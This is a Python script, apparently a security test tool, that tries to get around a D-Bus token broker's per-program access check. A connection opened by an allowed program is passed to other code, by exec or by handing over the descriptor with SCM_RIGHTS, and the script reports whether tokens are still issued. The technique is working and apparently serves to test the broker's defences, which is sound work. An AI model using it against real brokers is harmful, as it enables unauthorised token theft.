#!/usr/bin/python3
"""A bus connection that outlives the program the broker checked: an attacker's tool.

brokerd decides a clientId bound to programs (allowedExecutables) from the process that opened
the connection. Run by a program the broker allows, this script opens a connection, is served,
and then lets other code use the very same connection, as an attacker would:

  exec ADDRESS CLIENT_ID PROGRAM
      connects, asks for CLIENT_ID's token (served: the broker checked this program), then execs
      PROGRAM, another program, with the connection kept open, which asks again.
  receive ADDRESS CLIENT_ID OPENER
      (run by any program) starts OPENER, the allowed program, with this script's "open" step,
      which connects, asks, and hands the connection over a Unix socket (SCM_RIGHTS). The
      receiver asks while the opener is still there, then lets it exit, and asks again.

It speaks D-Bus itself (authentication, then messages marshalled by Gio.DBusMessage) so that a
connection can be carried on by another process: no D-Bus library lets go of one. Each answer
is one line on standard output, "LABEL: answer" or "LABEL: error NAME: MESSAGE"; tokens are never
printed.
"""

import os
import socket
import sys
import time

import gi

gi.require_version("Gio", "2.0")
from gi.repository import Gio, GLib  # noqa: E402

BROKER = ("io.shareddevice.Broker1", "/io/shareddevice/Broker1", "io.shareddevice.Broker1")
BUS = ("org.freedesktop.DBus", "/org/freedesktop/DBus", "org.freedesktop.DBus")


def connect(address):
    """A socket authenticated to the bus at ADDRESS (unix:path=... only), Hello done."""
    path = dict(part.split("=", 1) for part in address.split(":", 1)[1].split(","))["path"]
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    sock.connect(path)
    sock.sendall(b"\0AUTH EXTERNAL " + str(os.getuid()).encode().hex().encode() + b"\r\n")
    line = b""
    while not line.endswith(b"\r\n"):
        line += sock.recv(1)
    if not line.startswith(b"OK "):
        raise SystemExit(f"authentication refused: {line!r}")
    sock.sendall(b"BEGIN\r\n")
    call(sock.fileno(), BUS, "Hello", None, None, serial=1)
    return sock


def read_exactly(fd, count):
    data = b""
    while len(data) < count:
        chunk = os.read(fd, count - len(data))
        if not chunk:
            raise SystemExit("the bus closed the connection")
        data += chunk
    return data


def call(fd, target, member, signature, arguments, serial):
    """Sends one method call on FD and returns its reply, skipping anything else that arrives."""
    message = Gio.DBusMessage.new_method_call(target[0], target[1], target[2], member)
    if signature:
        message.set_body(GLib.Variant(signature, arguments))
    message.set_serial(serial)
    os.write(fd, message.to_blob(Gio.DBusCapabilityFlags.NONE))
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        header = read_exactly(fd, 16)
        blob = header + read_exactly(fd, Gio.DBusMessage.bytes_needed(header) - 16)
        reply = Gio.DBusMessage.new_from_blob(blob, Gio.DBusCapabilityFlags.NONE)
        if reply.get_reply_serial() == serial:
            return reply
    raise SystemExit(f"no reply to {member}")


def ask(fd, client_id, label, serial):
    """Asks the broker for CLIENT_ID's token and prints the outcome."""
    reply = call(
        fd, BROKER, "AcquireTokenSilent", "(sassa{sv})", (client_id, ["User.Read"], "", {}), serial=serial)
    if reply.get_message_type() == Gio.DBusMessageType.ERROR:
        body = reply.get_body()
        text = body.unpack()[0] if body is not None else ""
        print(f"{label}: error {reply.get_error_name()}: {text}", flush=True)
    else:
        token = reply.get_body().unpack()[0].get("accessToken", "")
        print(f"{label}: answer{' with a token' if token else ''}", flush=True)


def main(argv):
    script = os.path.abspath(__file__)
    if argv[:1] == ["exec"] and len(argv) == 4:
        address, client_id, program = argv[1:]
        sock = connect(address)
        ask(sock.fileno(), client_id, "checked program", serial=2)
        os.set_inheritable(sock.fileno(), True)
        os.execv(program, [program, script, "use", str(sock.fileno()), client_id, "after exec"])
    if argv[:1] == ["use"] and len(argv) == 4:
        ask(int(argv[1]), argv[2], argv[3], serial=3)
        return
    if argv[:1] == ["receive"] and len(argv) == 4:
        address, client_id, opener = argv[1:]
        ours, theirs = socket.socketpair()
        os.set_inheritable(theirs.fileno(), True)
        child = os.fork()
        if child == 0:
            ours.close()
            os.execv(opener, [opener, script, "open", address, client_id, str(theirs.fileno())])
        theirs.close()
        _, fds, _, _ = socket.recv_fds(ours, 1, 1)
        ask(fds[0], client_id, "handed over, its opener still there", serial=3)
        ours.send(b"x")
        os.waitpid(child, 0)
        ask(fds[0], client_id, "handed over, its opener gone", serial=4)
        return
    if argv[:1] == ["open"] and len(argv) == 4:
        address, client_id, channel = argv[1], argv[2], socket.socket(fileno=int(argv[3]))
        sock = connect(address)
        ask(sock.fileno(), client_id, "checked program", serial=2)
        socket.send_fds(channel, [b"x"], [sock.fileno()])
        channel.recv(1)
        return
    raise SystemExit(__doc__)


if __name__ == "__main__":
    main(sys.argv[1:])
